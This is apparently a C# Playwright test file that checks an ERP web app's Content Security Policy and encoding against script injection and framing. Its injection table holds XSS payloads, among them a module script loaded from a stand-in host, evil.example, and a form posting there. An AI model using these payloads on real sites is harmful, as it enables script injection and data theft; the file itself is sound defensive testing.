using Microsoft.Playwright;
using PsiErp.Tests.Pages;
using static PsiErp.Tests.Fixtures.Wire;

namespace PsiErp.Tests.Security;

/// <summary>In a browser: markup in the data is text, and markup that gets into a page all the same does not run.</summary>
public sealed class ScriptBlockingTests(SqliteApp app, Browser browser)
{
    /// <summary>Ways into a page past all encoding, and what they would do.</summary>
    private static readonly Dictionary<string, string> Injections = new()
    {
        ["inline script"] = "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
        ["script from elsewhere"] = "const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran=1'; "
            + "document.body.append(s)",
        ["module from elsewhere"] = "const s = document.createElement('script'); s.type = 'module'; s.src = 'https://evil.example/x.js';"
            + " document.body.append(s)",
        ["inline handler"] = "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
        ["javascript address"] = "document.body.insertAdjacentHTML('beforeend', '<a id=x href=\"javascript:window.ran=1\">x</a>'); "
            + "document.getElementById('x').click()",
        ["frame with a script"] = "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.ran=1</scr' + "
            + "'ipt>\"></iframe>')",
        ["form to elsewhere"] = "document.body.insertAdjacentHTML('beforeend', '<form id=f action=\"https://evil.example/\" "
            + "method=post></form>'); document.getElementById('f').submit()",
        ["htmx attribute that runs code"] = "document.body.insertAdjacentHTML('beforeend', '<b id=h hx-on:click=\"window.ran = "
            + "1\">x</b>'); import('/lib/htmx/htmx.esm.min.js').then((m) => { m.default.process(document.body); "
                + "document.getElementById('h').click(); })",
        ["inline style"] = "document.body.insertAdjacentHTML('beforeend', '<style>body{--ran:1}</style>'); if "
            + "(getComputedStyle(document.body).getPropertyValue('--ran')) window.ran = 1",
    };

    public static TheoryData<string> InjectionNames => Injections.Names();

    [Fact]
    public async Task Data_WithMarkup_IsShownAndDoesNotRun()
    {
        const string Text = "<script>window.ran=1</script><img src=x onerror=window.ran=1>";
        using var client = await app.SignedInClient();
        await client.Submit(await client.GetPage("/sessions/new"), "/sessions/new", ("Form.Title", Text), ("Form.Description", Text));
        var list = await client.GetJson($"/api/sessions?search={client.Username}");
        var session = Guid.Parse(list[0]!["id"]!.GetValue<string>());
        using var upload = await client.Upload(session, WideHeader + Row(Text, "2026-12-01", "1", warehouse: Text, channel: Text));
        await using var window = await browser.Open(client);

        foreach (var path in new[] { $"/sessions?search={client.Username}", $"/sessions/{session}/psi", $"/sessions/{session}/edit",
            $"/sessions/{session}/delete" })
        {
            await window.Page.GotoAsync(path);
            await window.Page.WaitForLoadStateAsync(LoadState.NetworkIdle);
            Assert.Null(await window.Page.EvaluateAsync<int?>("window.ran"));
        }
        await window.Page.GotoAsync($"/sessions/{session}/psi");
        Assert.Contains(Text, await window.Page.Locator("h1").TextContentAsync(), StringComparison.Ordinal);
        Assert.Empty(window.Errors);
    }

    [Theory]
    [MemberData(nameof(InjectionNames))]
    public async Task Page_WithInjectedMarkup_RunsNothingOfIt(string how)
    {
        using var client = await app.SignedInClient();
        await using var window = await browser.Open(client);
        await window.Page.GotoAsync("/sessions");
        await window.Page.WaitForLoadStateAsync(LoadState.NetworkIdle);
        var address = window.Page.Url;

        // Steered from outside the page, past its policy; what is put into the page is subject to it
        await window.Page.RunAndWaitForConsoleMessageAsync(
            () => window.Page.EvaluateAsync($"() => {{ {Injections[how]} }}"),
            new() { Predicate = message => message.Text.Contains("Content Security Policy", StringComparison.Ordinal), Timeout = 10_000 });

        Assert.Null(await window.Page.EvaluateAsync<int?>("window.ran"));
        Assert.Equal(address, window.Page.Url);
    }

    [Fact]
    public async Task Answer_WithAnInjectedScript_RunsNothingOfIt()
    {
        using var client = await app.SignedInClient();
        await using var window = await browser.Open(client);
        await window.Page.RouteAsync("**/sessions", async route =>
        {
            var answer = await route.FetchAsync();
            var page = await answer.TextAsync();
            await route.FulfillAsync(new()
            {
                Response = answer,
                Body = page.Replace("</main>", "<script>window.ran=1</script><b id=b onclick='window.ran=1'>x</b></main>",
                    StringComparison.Ordinal)
            });
        });

        await window.Page.GotoAsync("/sessions");
        await window.Page.Locator("#b").ClickAsync();

        Assert.Null(await window.Page.EvaluateAsync<int?>("window.ran"));
        Assert.Contains(window.Errors, error => error.Contains("Content Security Policy", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Page_InAFrameOfAnotherSite_StaysBlank()
    {
        using var client = await app.SignedInClient();
        await using var window = await browser.Open(client);
        await window.Page.RouteAsync("http://evil.example/**", route =>
            route.FulfillAsync(new() { ContentType = "text/html", Body = $"<iframe src='{app.Address}sessions'></iframe>" }));

        await window.Page.GotoAsync("http://evil.example/");
        await window.Page.WaitForLoadStateAsync(LoadState.NetworkIdle);

        Assert.All(window.Page.Frames.Skip(1), frame => Assert.DoesNotContain("/sessions", frame.Url, StringComparison.Ordinal));
    }
}
